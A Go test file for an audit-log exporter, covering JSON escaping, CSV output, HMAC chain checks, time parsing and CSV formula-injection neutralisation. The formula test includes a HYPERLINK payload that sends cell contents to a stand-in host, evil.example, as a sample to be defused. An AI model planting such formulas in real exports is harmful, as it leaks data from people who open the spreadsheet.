package audit

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"
)

func TestExportJSONStringsMatchEncodingJSON(t *testing.T) {
	for _, s := range []string{
		"", "plain", `quote " and \ backslash`, "tab\tnew\nline\rcr", "back\bspace form\ffeed", "\x00\x01\x1f\x7f",
		"<script>&amp;</script>", "ünïcode ✓ 🎉", "line\u2028sep\u2029para", "bad \xff utf8 \xc3",
		`{"kid":"a","names":["x","y"]}`,
	} {
		want, _ := json.Marshal(s)
		if got := appendJSONString(nil, s); !bytes.Equal(got, want) {
			t.Errorf("appendJSONString(%q) = %s, want %s", s, got, want)
		}
	}
}

func TestExportFormatsRoundTripEveryField(t *testing.T) {
	e := &Event{
		Seq: 42, At: time.Date(2025, 11, 23, 14, 5, 9, 120431000, time.FixedZone("CET", 3600)),
		Actor: `alice "ops", on-call`, DBRole: "app", Action: ActionSecretRead, Project: "billing", Subject: "STRIPE_KEY",
		Details: `{"purpose":"cli","revision":3}`, MACKID: "root-1", PrevMAC: "ab", MAC: "cd",
	}
	var jl, cs bytes.Buffer
	for _, c := range []struct {
		buf    *bytes.Buffer
		format string
	}{{&jl, FormatJSONL}, {&cs, FormatCSV}} {
		w, err := NewExportWriter(c.buf, c.format, KeepFormulas)
		if err != nil {
			t.Fatal(err)
		}
		if err := w.Write(e); err != nil {
			t.Fatal(err)
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
	}
	if want := `"at":"2025-11-23T13:05:09.120431Z"`; !strings.Contains(jl.String(), want) {
		t.Errorf("JSON line %s lacks %s (RFC 3339, UTC, microseconds)", jl.String(), want)
	}
	var got map[string]any
	dec := json.NewDecoder(&jl)
	dec.UseNumber()
	if err := dec.Decode(&got); err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(&cs).ReadAll()
	if err != nil || len(records) != 2 {
		t.Fatalf("CSV: %v, %d records", err, len(records))
	}
	want := []string{"42", "2025-11-23T13:05:09.120431Z", e.Actor, e.DBRole, e.Action, e.Project, e.Subject, e.Details, e.MACKID, e.PrevMAC, e.MAC}
	for i, f := range ExportFields {
		if records[0][i] != f {
			t.Errorf("CSV header %d = %q, want %q", i, records[0][i], f)
		}
		if records[1][i] != want[i] {
			t.Errorf("CSV %s = %q, want %q", f, records[1][i], want[i])
		}
		if v := got[f]; v == nil || (f != "seq" && v.(string) != want[i]) || (f == "seq" && v.(json.Number).String() != want[i]) {
			t.Errorf("JSON %s = %v, want %q", f, v, want[i])
		}
	}
	if len(got) != len(ExportFields) {
		t.Errorf("JSON line has %d fields, want %d", len(got), len(ExportFields))
	}
	if at, _ := time.Parse(time.RFC3339Nano, want[1]); !at.Equal(e.At) {
		t.Errorf("at does not round-trip: %v vs %v", at, e.At)
	}
}

func TestChainWalkWantsExpectedHeadInTheChain(t *testing.T) {
	key := NewKey("k", SchemeDeployment, 0, []byte("0123456789abcdef0123456789abcdef"))
	keys := func(string) (*Key, error) { return key, nil }
	chain := Chain{Deployment: "d", Schema: "s"}
	var events []*Event
	seq, mac := int64(0), ""
	for range 3 {
		e := &Event{At: time.Unix(1700000000, 0), Actor: "a", Action: ActionSecretRead, Details: "{}"}
		Seal(chain, key, seq, mac, e)
		seq, mac = e.Seq, e.MAC
		events = append(events, e)
	}
	walk := NewChainWalk(chain, keys, events[1].MAC)
	for _, e := range events {
		if err := walk.Next(e); err != nil {
			t.Fatal(err)
		}
	}
	rep, err := walk.Finish(3, events[2].MAC)
	if err != nil || rep.ExpectedHeadSeq != 2 || rep.Count != 3 {
		t.Fatalf("report %+v, err %v", rep, err)
	}

	walk = NewChainWalk(chain, keys, "f00d")
	for _, e := range events {
		_ = walk.Next(e)
	}
	if _, err := walk.Finish(3, events[2].MAC); err == nil || !strings.Contains(err.Error(), "the expected head is no longer in the chain") {
		t.Fatalf("err = %v, want the expected head reported missing", err)
	}
}

func TestParseExportTimeAcceptsEveryFormOfSince(t *testing.T) {
	now := time.Date(2025, 3, 10, 12, 0, 0, 0, time.UTC)
	for _, c := range []struct {
		value string
		want  time.Time
	}{
		{"2025-01-31T08:00:00Z", time.Date(2025, 1, 31, 8, 0, 0, 0, time.UTC)},
		{"2025-01-31T09:00:00.5+01:00", time.Date(2025, 1, 31, 8, 0, 0, 500000000, time.UTC)},
		{"2025-01-31", time.Date(2025, 1, 31, 0, 0, 0, 0, time.UTC)},
		{"90m", now.Add(-90 * time.Minute)},
		{"24h", now.Add(-24 * time.Hour)},
		{"7d", now.Add(-7 * 24 * time.Hour)},
		{"0d", now},
	} {
		got, err := ParseExportTime("since", c.value, now)
		if err != nil || !got.Equal(c.want) {
			t.Errorf("ParseExportTime(%q) = %v, %v; want %v", c.value, got, err, c.want)
		}
	}
	for value, want := range map[string]string{
		"yesterday":          `--until "yesterday" is not a time: use RFC 3339, e.g. 2025-01-31T08:00:00Z, a date, e.g. 2025-01-31, or a duration ago, e.g. 24h or 7d`,
		"-24h":               "--until -24h is negative: give how long ago, e.g. 24h or 7d",
		"-2d":                "--until -2d is negative: give how long ago, e.g. 24h or 7d",
		"1.5d":               `--until "1.5d" is not a time`,
		"d":                  `--until "d" is not a time`,
		"2025-13-01":         `--until "2025-13-01" is not a time`,
		"99999999999999999d": `is not a time`,
	} {
		_, err := ParseExportTime("until", value, now)
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("ParseExportTime(%q) error = %v, want %q", value, err, want)
		}
	}
}

// The CSV export is written by hand for speed; it must stay byte for byte
// what encoding/csv writes, for every field a database may hold.
func TestCSVExportMatchesEncodingCSV(t *testing.T) {
	fields := []string{"", "plain", "a,b", `say "hi"`, "line\nbreak", "cr\rlf", " leading space", "\tleading tab",
		"\u00a0nbsp", `\.`, `\.x`, "trailing ", "ünïcödé", `{"k":"v, w"}`, `""`, "\x1b[2J", "\u2028"}
	var want, got strings.Builder
	cw := csv.NewWriter(&want)
	ew, err := NewExportWriter(&got, FormatCSV, KeepFormulas)
	if err != nil {
		t.Fatal(err)
	}
	if err := cw.Write(ExportFields); err != nil {
		t.Fatal(err)
	}
	at := time.Date(2026, 11, 29, 10, 0, 0, 123456000, time.UTC)
	for i, f := range fields {
		e := &Event{Seq: int64(i + 1), At: at, Actor: f, DBRole: "r", Action: f, Project: f, Subject: f, Details: f, MACKID: f, PrevMAC: f, MAC: f}
		if err := cw.Write([]string{fmt.Sprint(e.Seq), at.Format(ExportTimeLayout), f, "r", f, f, f, f, f, f, f}); err != nil {
			t.Fatal(err)
		}
		if err := ew.Write(e); err != nil {
			t.Fatal(err)
		}
	}
	cw.Flush()
	if err := ew.Close(); err != nil {
		t.Fatal(err)
	}
	if got.String() != want.String() {
		t.Fatalf("CSV differs from encoding/csv:\ngot:\n%q\nwant:\n%q", got.String(), want.String())
	}
}

func TestCSVExportNeutralisesFormulasOnlyWhenAsked(t *testing.T) {
	const hyperlink = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	formulas := []string{hyperlink, "+1", "-1+2", "@SUM(A1:A9)", "\tx", "\rx", "=1,2"}
	inert := []string{"", "plain", "a=b", " =1", "'=1", "{\"k\":\"=v\"}"}
	export := func(formulas CSVFormulas, fields []string) (string, [][]string) {
		t.Helper()
		var out strings.Builder
		ew, err := NewExportWriter(&out, FormatCSV, formulas)
		if err != nil {
			t.Fatal(err)
		}
		for i, f := range fields {
			e := &Event{Seq: int64(i + 1), At: time.Unix(0, 0), Actor: f, DBRole: f, Action: f, Project: f, Subject: f, Details: f, MACKID: f, PrevMAC: f, MAC: f}
			if err := ew.Write(e); err != nil {
				t.Fatal(err)
			}
		}
		if err := ew.Close(); err != nil {
			t.Fatal(err)
		}
		records, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
		if err != nil {
			t.Fatalf("not CSV: %v\n%s", err, out.String())
		}
		return out.String(), records[1:]
	}

	all := append(append([]string{}, formulas...), inert...)
	raw, records := export(NeutraliseFormulas, all)
	for i, f := range all {
		want := f
		if i < len(formulas) {
			want = "'" + f
		}
		for col, got := range records[i][2:] {
			if got != want {
				t.Errorf("%q, column %s: got %q, want %q", f, ExportFields[col+2], got, want)
			}
		}
	}
	if want := `,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",`; !strings.Contains(raw, want) {
		t.Errorf("the neutralised cell is not %s:\n%s", want, raw)
	}

	_, records = export(KeepFormulas, all)
	for i, f := range all {
		if got := records[i][2]; got != f {
			t.Errorf("kept %q as %q", f, got)
		}
	}
}

func TestExportTimeIsTheLayoutInUTC(t *testing.T) {
	zones := []*time.Location{time.UTC, time.FixedZone("CET", 3600), time.FixedZone("west", -9*3600-1800)}
	times := []time.Time{
		time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC), time.Date(2025, 12, 31, 23, 59, 59, 999999999, time.UTC),
		time.Date(1, 1, 1, 0, 0, 0, 1000, time.UTC), time.Date(999, 7, 4, 9, 8, 7, 6000, time.UTC),
		time.Date(9999, 12, 31, 23, 59, 59, 999999000, time.UTC), time.Date(10000, 1, 1, 0, 0, 0, 0, time.UTC),
		time.Date(-1, 6, 1, 12, 0, 0, 0, time.UTC), time.Date(2000, 2, 29, 1, 2, 3, 4567, time.UTC),
	}
	for i := range 1000 {
		times = append(times, time.Unix(int64(i)*7919*86400/13+int64(i*i), int64(i)*999983%1e9))
	}
	for _, at := range times {
		for _, z := range zones {
			want := at.In(z).UTC().Format(ExportTimeLayout)
			if got := string(appendExportTime(nil, at.In(z))); got != want {
				t.Errorf("appendExportTime(%v) = %s, want %s", at.In(z), got, want)
			}
		}
	}
}
